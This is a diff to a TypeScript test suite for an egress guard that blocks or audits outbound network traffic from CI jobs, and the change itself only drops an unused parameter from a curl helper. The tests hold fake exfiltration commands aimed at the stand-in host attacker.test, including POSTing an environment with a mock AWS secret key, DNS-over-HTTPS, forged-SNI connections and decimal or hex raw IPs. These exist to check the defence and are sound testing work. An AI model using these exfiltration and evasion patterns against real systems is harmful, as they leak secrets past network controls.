@@ -6,7 +6,7 @@
  */
 import assert from 'node:assert/strict';
 import { randomBytes } from 'node:crypto';
-import { mkdirSync, readFileSync, writeFileSync, existsSync } from 'node:fs';
+import { mkdirSync, writeFileSync, existsSync } from 'node:fs';
 import path from 'node:path';
 import { after, before, describe, test } from 'node:test';
 import { NET, PACKAGE, World } from './harness.js';
@@ -25,7 +25,7 @@ type Mode = 'block' | 'audit';
 
 const outcomeFor = (mode: Mode) => (mode === 'block' ? 'blocked' : 'would-block');
 
-function curl(mode: Mode, args: string[], options: { input?: string } = {}) {
+function curl(args: string[], options: { input?: string } = {}) {
   return world.job('curl', ['-sS', '--max-time', '8', '--cacert', world.caFile, ...args], options);
 }
 
@@ -47,7 +47,7 @@ for (const mode of ['block', 'audit'] as const) {
     });
 
     test('control: allowed.test over HTTPS and HTTP works, and is logged as allowed', async () => {
-      const https = await curl(mode, ['https://allowed.test/']);
+      const https = await curl(['https://allowed.test/']);
       assert.equal(https.code, 0, https.stderr);
       assert.match(https.stdout, /hello from allowed\.test/);
       const event = await world.decision((e) => e.kind === 'transparent' && e.host === 'allowed.test' && e.port === 443);
@@ -55,7 +55,7 @@ for (const mode of ['block', 'audit'] as const) {
       assert.equal(event.decision, 'allowed');
       assert.equal(event.sni, 'allowed.test');
       assert.ok(event.ip === NET.allowed || event.ip === NET.allowed6, `connected to allowed.test's address, got ${event.ip}`);
-      const plain = await curl(mode, ['http://allowed.test/']);
+      const plain = await curl(['http://allowed.test/']);
       assert.equal(plain.code, 0, plain.stderr);
       assert.match(plain.stdout, /hello from allowed\.test/);
       const httpEvent = await world.decision((e) => e.kind === 'transparent' && e.host === 'allowed.test' && e.port === 80);
@@ -101,8 +101,8 @@ for (const mode of ['block', 'audit'] as const) {
     test('2: uploader-style curl of the environment to attacker.test/upload (by name, and with --resolve past DNS)', async () => {
       const secret = `SECRET_${mode}_${randomLabel(16)}`;
       const env = `CI=true\nAWS_SECRET_ACCESS_KEY=${secret}\n`;
-      const byName = await curl(mode, ['-X', 'POST', '--data-binary', '@-', 'https://attacker.test/upload'], { input: env });
-      const pinned = await curl(mode, ['-X', 'POST', '--data-binary', '@-', '--resolve', `attacker.test:443:${NET.attacker}`, 'https://attacker.test/upload'], { input: env });
+      const byName = await curl(['-X', 'POST', '--data-binary', '@-', 'https://attacker.test/upload'], { input: env });
+      const pinned = await curl(['-X', 'POST', '--data-binary', '@-', '--resolve', `attacker.test:443:${NET.attacker}`, 'https://attacker.test/upload'], { input: env });
       const bodies = arrivedAt((e) => e.type === 'http' && String(e.body).includes(secret));
       const transparent = await world.decision((e) => e.kind === 'transparent' && e.host === 'attacker.test' && e.sni === 'attacker.test' && e.ip === NET.attacker);
       assert.ok(transparent, 'transparent decision for the pinned upload');
@@ -122,9 +122,9 @@ for (const mode of ['block', 'audit'] as const) {
       const before = world.internetLog().length;
       const decimal = String(NET.rawOnly.split('.').reduce((n, o) => n * 256 + Number(o), 0));
       const hex = `0x${NET.rawOnly.split('.').map((o) => Number(o).toString(16).padStart(2, '0')).join('')}`;
-      const tls = await curl(mode, [`https://${NET.rawOnly}/`]);
-      const dec = await curl(mode, ['-i', `http://${decimal}/`]);
-      const hx = await curl(mode, ['-i', `http://${hex}/`]);
+      const tls = await curl([`https://${NET.rawOnly}/`]);
+      const dec = await curl(['-i', `http://${decimal}/`]);
+      const hx = await curl(['-i', `http://${hex}/`]);
       const events = world.events().filter((e) => e.event === 'decision' && e.kind === 'transparent' && e.ip === NET.rawOnly);
       assert.ok(events.length >= 3, `three raw-ip decisions, got ${events.length}`);
       for (const e of events) {
@@ -167,10 +167,10 @@ for (const mode of ['block', 'audit'] as const) {
     });
 
     test('5: DNS-over-HTTPS to a non-allowed resolver, and to the attacker under a forged allowed SNI', async () => {
-      const doh = await curl(mode, ['--doh-url', 'https://attacker.test/dns-query', 'https://allowed.test/']);
+      const doh = await curl(['--doh-url', 'https://attacker.test/dns-query', 'https://allowed.test/']);
       const dohEvent = await world.decision((e) => e.host === 'attacker.test' && (e.kind === 'dns' || e.kind === 'transparent'));
       assert.equal(dohEvent?.decision, outcomeFor(mode));
-      const fronted = await curl(mode, ['--connect-to', `allowed.test:443:${NET.attacker}:443`, 'https://allowed.test/dns-query?dns=AAABAAABAAAAAAAAB2V4YW1wbGUEdGVzdAAAAQAB']);
+      const fronted = await curl(['--connect-to', `allowed.test:443:${NET.attacker}:443`, 'https://allowed.test/dns-query?dns=AAABAAABAAAAAAAAB2V4YW1wbGUEdGVzdAAAAQAB']);
       const event = await world.decision((e) => e.kind === 'transparent' && e.reason === 'sni-mismatch' && e.ip === NET.attacker && e.port === 443);
       assert.ok(event, 'sni-mismatch decision');
       assert.equal(event.decision, outcomeFor(mode));
@@ -238,15 +238,15 @@ for (const mode of ['block', 'audit'] as const) {
     });
 
     test('9: IPv6: raw-IP, forged SNI and by-name calls over IPv6 are decided the same way', async () => {
-      const byName = await curl(mode, ['-6', 'https://allowed.test/']);
+      const byName = await curl(['-6', 'https://allowed.test/']);
       assert.equal(byName.code, 0, byName.stderr);
       const allowed6 = await world.decision((e) => e.kind === 'transparent' && e.host === 'allowed.test' && e.ip === NET.allowed6);
       assert.equal(allowed6?.decision, 'allowed');
-      const raw = await curl(mode, [`https://[${NET.rawOnly6}]/`]);
+      const raw = await curl([`https://[${NET.rawOnly6}]/`]);
       const rawEvent = await world.decision((e) => e.kind === 'transparent' && e.ip === NET.rawOnly6);
       assert.equal(rawEvent?.reason, 'raw-ip');
       assert.equal(rawEvent?.decision, outcomeFor(mode));
-      const forged = await curl(mode, ['--connect-to', `allowed.test:443:[${NET.attacker6}]:443`, 'https://allowed.test/v6-forged']);
+      const forged = await curl(['--connect-to', `allowed.test:443:[${NET.attacker6}]:443`, 'https://allowed.test/v6-forged']);
       const forgedEvent = await world.decision((e) => e.kind === 'transparent' && e.ip === NET.attacker6 && e.sni === 'allowed.test');
       assert.equal(forgedEvent?.reason, 'sni-mismatch');
       assert.equal(forgedEvent?.decision, outcomeFor(mode));
@@ -269,17 +269,17 @@ describe('10: egress-guard killed mid-job in block mode', () => {
   test('new connections and DNS fail (refused), nothing leaks', async () => {
     await world.startEgressGuard('block');
     try {
-      const ok = await curl('block', ['https://allowed.test/']);
+      const ok = await curl(['https://allowed.test/']);
       assert.equal(ok.code, 0, ok.stderr);
       await world.stopEgressGuard({ signal: 'SIGKILL', keepRules: true });
       const marker = `after-kill-${randomLabel(10)}`;
       const before = world.internetLog().length;
-      const allowed = await curl('block', ['https://allowed.test/']);
+      const allowed = await curl(['https://allowed.test/']);
       // By name: DNS is redirected to the dead resolver (6); pinned addresses: the redirect finds no listener (7).
       assert.ok(allowed.code === 6 || allowed.code === 7, `curl fails to resolve or connect, got ${allowed.code} ${allowed.stderr}`);
-      const pinned = await curl('block', ['--resolve', `attacker.test:443:${NET.attacker}`, `https://attacker.test/${marker}`]);
+      const pinned = await curl(['--resolve', `attacker.test:443:${NET.attacker}`, `https://attacker.test/${marker}`]);
       assert.equal(pinned.code, 7);
-      const raw6 = await curl('block', [`https://[${NET.rawOnly6}]/${marker}`]);
+      const raw6 = await curl([`https://[${NET.rawOnly6}]/${marker}`]);
       assert.equal(raw6.code, 7);
       const dig = await world.job('dig', ['+tries=1', '+time=2', `${marker}.attacker.test`]);
       assert.notEqual(dig.code, 0, 'no resolver answers');
